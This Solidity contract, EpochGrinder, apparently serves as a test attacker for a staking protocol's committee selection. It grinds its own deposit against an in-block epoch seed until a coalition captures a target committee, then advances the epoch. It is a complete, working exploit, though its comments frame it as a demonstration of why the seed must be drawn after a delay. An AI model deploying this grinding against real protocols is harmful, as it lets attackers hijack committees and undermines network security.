// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.28;

interface IToken {
    function approve(address spender, uint256 amount) external returns (bool);
}

interface IRegistry {
    function register(bytes32 x25519PublicKey, bytes calldata peerId) external;
    function deposit(uint256 amount) external;
    function login() external;
    function activeEntries() external view returns (bytes32[] memory);
}

interface IEpochsView {
    function advanceEpoch() external returns (uint256);
    function epochCount() external view returns (uint256);
    function seedOf(uint256 epoch) external view returns (bytes32);
    function committeeOf(bytes32 id, uint256 epoch, uint256 size) external view returns (address[] memory);
    function select(bytes32 seed, bytes32 id, uint256[] calldata stakes, uint256 size)
        external
        pure
        returns (uint256[] memory);
}

/// @notice The committee-grinding attacker, as a node operator that is a contract: in one transaction it reads
/// the seed the next epoch would get if the epoch were drawn now, varies its own deposit by 1 wei at a time until
/// the stake walk seats `needed` of its coalition in the target committee, deposits that amount and advances the
/// epoch. Against an Epochs that draws the seed in the snapshot's transaction this captures the committee every
/// time; against one that draws it SEED_DELAY blocks later the final check finds no such epoch and reverts.
contract EpochGrinder {
    IRegistry public immutable registry;
    IEpochsView public immutable epochs;
    mapping(address => bool) public isCoalition;

    error NoCapturingDeposit(uint256 tries);
    error NotCaptured(uint256 seats);

    constructor(IRegistry registry_, IEpochsView epochs_, address[] memory coalition) {
        registry = registry_;
        epochs = epochs_;
        isCoalition[address(this)] = true;
        for (uint256 i = 0; i < coalition.length; ++i) {
            isCoalition[coalition[i]] = true;
        }
    }

    function join(IToken token, uint256 stake, bytes32 x25519PublicKey, bytes calldata peerId) external {
        token.approve(address(registry), type(uint256).max);
        registry.register(x25519PublicKey, peerId);
        registry.deposit(stake);
        registry.login();
    }

    /// @notice The smallest extra deposit (below `maxTries`) that seats `needed` of the coalition in committee
    /// (id, size), were the next epoch's seed drawn in this block; type(uint256).max if none.
    function findCapture(bytes32 id, uint256 size, uint256 needed, uint256 maxTries) public view returns (uint256) {
        bytes32[] memory entries = registry.activeEntries();
        (uint256[] memory stakes, uint256 self) = _stakes(entries);
        bytes32 seed = _inBlockSeed();
        uint256 base = stakes[self];
        for (uint256 extra = 0; extra < maxTries; ++extra) {
            stakes[self] = base + extra;
            if (_held(entries, epochs.select(seed, id, stakes, size)) >= needed) return extra;
        }
        return type(uint256).max;
    }

    function _inBlockSeed() private view returns (bytes32) {
        uint256 next = epochs.epochCount();
        return keccak256(abi.encode(epochs.seedOf(next - 1), block.prevrandao, next));
    }

    function _stakes(bytes32[] memory entries) private view returns (uint256[] memory stakes, uint256 self) {
        stakes = new uint256[](entries.length);
        self = type(uint256).max;
        for (uint256 i = 0; i < entries.length; ++i) {
            stakes[i] = uint96(uint256(entries[i]));
            if (address(uint160(uint256(entries[i]) >> 96)) == address(this)) self = i;
        }
    }

    function _held(bytes32[] memory entries, uint256[] memory seats) private view returns (uint256 held) {
        for (uint256 k = 0; k < seats.length; ++k) {
            if (isCoalition[address(uint160(uint256(entries[seats[k]]) >> 96))]) ++held;
        }
    }

    /// @notice Grind, deposit, advance, and insist on the captured committee (reverts otherwise).
    function attack(bytes32 id, uint256 size, uint256 needed, uint256 maxTries) external returns (uint256 extra) {
        extra = findCapture(id, size, needed, maxTries);
        if (extra == type(uint256).max) revert NoCapturingDeposit(maxTries);
        if (extra > 0) registry.deposit(extra);
        uint256 epoch = epochs.advanceEpoch();
        address[] memory committee = epochs.committeeOf(id, epoch, size);
        uint256 held = 0;
        for (uint256 k = 0; k < committee.length; ++k) {
            if (isCoalition[committee[k]]) ++held;
        }
        if (held < needed) revert NotCaptured(held);
    }

    /// @notice The same grinding without the final check: deposit what would capture under an in-block seed and
    /// take the epoch step. Returns the extra deposit chosen.
    function grindAndStep(bytes32 id, uint256 size, uint256 needed, uint256 maxTries) external returns (uint256 extra) {
        extra = findCapture(id, size, needed, maxTries);
        if (extra == type(uint256).max) extra = 0;
        if (extra > 0) registry.deposit(extra);
        epochs.advanceEpoch();
    }
}
